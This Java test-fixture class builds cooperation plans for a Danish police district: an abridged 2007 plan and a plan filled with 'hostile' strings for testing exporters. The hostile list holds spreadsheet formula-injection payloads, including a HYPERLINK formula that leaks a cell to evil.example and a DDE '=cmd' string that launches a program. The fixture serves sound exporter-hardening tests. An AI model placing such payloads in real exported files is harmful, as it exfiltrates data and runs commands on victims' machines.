package dk.samarbejdsplan.model.testkit;

import dk.samarbejdsplan.model.CooperationPlan;
import dk.samarbejdsplan.model.Forum;
import dk.samarbejdsplan.model.LocalUnit;
import dk.samarbejdsplan.model.Meeting;
import dk.samarbejdsplan.model.MeetingStatus;
import dk.samarbejdsplan.model.Municipality;
import dk.samarbejdsplan.model.PlanStatus;
import dk.samarbejdsplan.model.PoliceDistrict;
import dk.samarbejdsplan.model.Section;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;

/**
 * Small plans built by hand in code, without the plan reader, for exporter tests that look at single values:
 * an excerpt of the 2007 plan whose every value is known, and a plan whose every text is hostile to a naive
 * writer (formula injection, quotes, delimiters, line breaks, emoji).
 *
 * <p>The plans are fixed: tests may rely on the order and the values described here (a row number, a cell).
 * For the whole 2007 plan use {@link SamplePlans#plan2007()}; for generated plans, {@link PlanArbitraries}.
 */
public final class HandBuiltPlans {

    /**
     * The texts that {@link #hostile()} puts in its cells: texts a spreadsheet might take for a formula
     * ({@code = + - @}, also after a tab or a carriage return), quotes, the CSV delimiters, every kind of line
     * break, leading and trailing spaces, Danish letters, emoji, and texts that look like numbers or dates.
     */
    public static final List<String> HOSTILE = List.of(
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Klik\")",
            "+1", "-2", "@SUM(A1:A9)", "\t=1", "\r=1", "=1+1", "-", "+", "@",
            "say \"hi\"", "\"", "\"\"", "a;b", "a,b", "a\nb", "a\r\nb", "a\rb", "line one\n\nline two",
            " leading space", "trailing space ", " ", "'already quoted", "æøå ÆØÅ", "👮‍♀️ 🇩🇰",
            "1e3", "0123", "2007-10-26", "; ;", ",,,", "\n", "x\t=1");

    private HandBuiltPlans() {
    }

    /**
     * Three categories and six forums of the 2007 plan of Midt- og Vestsjællands Politi (the seed's Bilag 1,
     * abridged), one forum for every kind of meeting frequency:
     * <ol>
     * <li>{@code kontakt-med-lokalsamfundet}: {@code kredsraadet} ("Min. 4", an interface to
     *     {@code lokalraadene}) and {@code lokalraadene} ("Min. 4 (2 i 2007)", an action plan of two
     *     paragraphs, the lokalråd of Greve (253) with meetings on 26 October and 14 November 2007 without a
     *     status, and of Holbæk (316) with a meeting held on 26 September and one planned on 7 November 2007,
     *     and an action plan of its own);</li>
     * <li>{@code beredskab}: {@code beredskabsstaben-strategisk} ("Ad hoc"), {@code region-sjaelland} ("2-3")
     *     and {@code statusmoeder} ("52");</li>
     * <li>{@code trafiksikkerhed}: {@code trafiksikkerhedsudvalg} ("Besluttet lokalt").</li>
     * </ol>
     * The district is "Midt- og Vestsjællands Politi" (code 1467), the year 2007, the status adopted, with a
     * subtitle and one section, "Indledning".
     *
     * @return the plan
     */
    public static CooperationPlan excerpt2007() {
        Forum kredsraadet = Forum.builder().id("kredsraadet")
                .name("Kredsrådet for Midt- og Vestsjællands Politi")
                .topic("Almindelige spørgsmål vedrørende politiets virksomhed i kredsen m.v.")
                .representative("Politidirektøren og borgmestrene i de kommuner, der geografisk indgår i "
                        + "politikredsen.")
                .frequency("Min. 4").interfaces(List.of("lokalraadene")).build();
        Forum lokalraad = Forum.builder().id("lokalraadene").name("Lokalrådene i de enkelte kommuner")
                .topic("Spørgsmål vedrørende politiets kriminalitetsbekæmpende og kriminalpræventive indsats i "
                        + "lokalområdet m.v.")
                .representatives(List.of("Lederne af lokalpolitienhederne", "repræsentanter for kommunerne",
                        "repræsentanter for det øvrige lokalsamfund"))
                .frequency("Min. 4 (2 i 2007)")
                .actionPlan("Der er udarbejdet en handleplan for arbejdet i hvert enkelt lokalråd.\n\n"
                        + "I 2007 vil lokalrådene hovedsageligt have til opgave at konstituere sig.")
                .localUnit(LocalUnit.of(new Municipality("253", "Greve"), List.of(
                        Meeting.on(LocalDate.of(2007, 10, 26)), Meeting.on(LocalDate.of(2007, 11, 14)))))
                .localUnit(new LocalUnit(new Municipality("316", "Holbæk"), List.of(
                        new Meeting(LocalDate.of(2007, 9, 26), Optional.of(MeetingStatus.HELD)),
                        new Meeting(LocalDate.of(2007, 11, 7), Optional.of(MeetingStatus.PLANNED))),
                        Optional.of("Egen handleplan.")))
                .build();
        Forum staben = Forum.builder().id("beredskabsstaben-strategisk").name("Beredskabsstaben (strategisk niveau)")
                .topic("Samarbejdet mellem totalforsvaret (herunder hjemmeværn og politihjemmeværn), "
                        + "beredskabsregion og politi.")
                .representatives(List.of("Politidirektøren", "chefpolitiinspektøren"))
                .frequency("Ad hoc").build();
        Forum region = Forum.builder().id("region-sjaelland").name("Møder med Region Sjællands "
                        + "Sundhedsberedskabs- og præhospitale udvalg")
                .topic("Samarbejdet mellem politikredsen og Region Sjælland på udvalgets område")
                .representative("Liniechefen for beredskabet og repræsentant for Region Sjælland")
                .frequency("2-3").build();
        Forum statusmoeder = Forum.builder().id("statusmoeder").name("Ugentligt statusmøder i nogle kommuner")
                .topic("Synliggørelse af uhensigtsmæssig adfærd.")
                .representative("SSP-konsulenter").frequency("52").build();
        Forum trafik = Forum.builder().id("trafiksikkerhedsudvalg").name("Møder i lokale trafiksikkerhedsudvalg.")
                .topic("Lokale initiativer vedr. færdselssikkerhed").representative("Lederne")
                .frequency("Besluttet lokalt").build();
        return CooperationPlan.builder()
                .district(PoliceDistrict.of("Midt- og Vestsjællands Politi", "1467"))
                .year(2007).status(PlanStatus.ADOPTED)
                .subtitle("En plan for samarbejdet mellem Midt- og Vestsjællands Politi, kommunerne, m.v.")
                .section(Section.of("Indledning", "Politiet har en lang tradition."))
                .category("kontakt-med-lokalsamfundet", "Kontakt med lokalsamfundet m.v.",
                        List.of(kredsraadet, lokalraad))
                .category("beredskab", "Beredskab", List.of(staben, region, statusmoeder))
                .category("trafiksikkerhed", "Trafiksikkerhed", List.of(trafik))
                .build();
    }

    /**
     * A plan whose every text cell is one of the {@link #HOSTILE} texts: one forum {@code f0}, {@code f1},
     * ... for each hostile text {@code h[i]}, with the name, a representative, the terms of reference, the
     * goal, the notes and the lokalråd's municipality name {@code h[i]}, the topic {@code h[i+1]}, a second
     * representative {@code h[i+2]} and the action plan {@code h[i+3]} (indexes wrapping round); "Min. 4" for
     * even {@code i} and "Ad hoc" for odd; an interface to the next forum; one lokalråd, municipality code
     * {@code -12} for {@code i} divisible by 3 and else {@code 253}, with one meeting on the 1st of month
     * {@code 1 + i % 12} of 2007. The forums {@code f0}-{@code f9} are in the category {@code hostile}, titled
     * {@code =HYPERLINK("x")}, the rest in {@code more}, titled {@code -2}; the district is
     * {@code =cmd|' /C calc'!A0}, the year 2007.
     *
     * @return the plan
     */
    public static CooperationPlan hostile() {
        List<String> h = HOSTILE;
        List<Forum> forums = new ArrayList<>();
        for (int i = 0; i < h.size(); i++) {
            String s = h.get(i);
            forums.add(Forum.builder().id("f" + i).name(s).topic(h.get((i + 1) % h.size()))
                    .representatives(List.of(s, h.get((i + 2) % h.size())))
                    .frequency(i % 2 == 0 ? "Min. 4" : "Ad hoc")
                    .termsOfReference(s).goals(List.of(s)).actionPlan(h.get((i + 3) % h.size()))
                    .interfaces(List.of("f" + ((i + 1) % h.size()))).notes(List.of(s, s))
                    .localUnit(new LocalUnit(new Municipality(i % 3 == 0 ? "-12" : "253", s),
                            List.of(Meeting.on(LocalDate.of(2007, 1 + i % 12, 1))), Optional.empty()))
                    .build());
        }
        return CooperationPlan.builder().district(PoliceDistrict.of("=cmd|' /C calc'!A0")).year(2007)
                .category("hostile", "=HYPERLINK(\"x\")", forums.subList(0, 10))
                .category("more", "-2", forums.subList(10, forums.size()))
                .build();
    }
}
